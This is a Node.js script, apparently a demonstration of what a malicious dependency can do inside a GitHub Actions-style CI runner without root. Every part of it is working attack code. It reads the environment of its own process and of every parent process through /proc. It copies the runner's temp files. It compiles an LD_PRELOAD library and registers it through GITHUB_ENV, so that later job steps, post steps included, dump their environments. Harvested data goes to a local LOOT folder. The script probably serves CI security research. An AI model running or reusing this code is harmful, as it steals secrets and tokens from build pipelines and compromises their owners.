// What a hostile dependency can do without being root. Everything it finds goes into the folder LOOT, in a
// subfolder for each way that it tries. Linux only, as the demo is.
import { execFileSync } from 'node:child_process';
import { appendFileSync, cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import process from 'node:process';

const loot = process.env['LOOT'] ?? '';

/** @param {string} way */
function folder(way) {
  const path = join(loot, way);
  mkdirSync(path, { recursive: true });
  return path;
}

// Its own environment, and that of every process above it.
writeFileSync(join(folder('environment'), 'own'), JSON.stringify(process.env));
for (let pid = process.ppid; pid > 1;) {
  try {
    writeFileSync(join(folder('environment'), String(pid)), readFileSync(`/proc/${pid}/environ`));
    const [, parent] = /^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8')) ?? [];
    pid = Number(parent);
  } catch {
    break;
  }
}

// The runner's files: commands, state, outputs, variables.
cpSync(dirname(process.env['RUNNER_TEMP'] ?? ''), folder('files'), { recursive: true });

// A library that every later process of the job loads before its own code, the posts included.
const source = join(loot, 'preload.c');
const library = join(loot, 'preload.so');
const target = join(folder('post'), '%d');
writeFileSync(
  source,
  `#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void copy(void) {
  char path[4096], buffer[65536];
  snprintf(path, sizeof path, "${target}", getpid());
  FILE *from = fopen("/proc/self/environ", "r"), *to = fopen(path, "w");
  if (!from || !to) return;
  for (size_t n; (n = fread(buffer, 1, sizeof buffer, from)) > 0; ) fwrite(buffer, 1, n, to);
  fclose(from);
  fclose(to);
}
`,
);
execFileSync('cc', ['-shared', '-fPIC', '-o', library, source]);
appendFileSync(process.env['GITHUB_ENV'] ?? '', `LD_PRELOAD=${library}\n`);
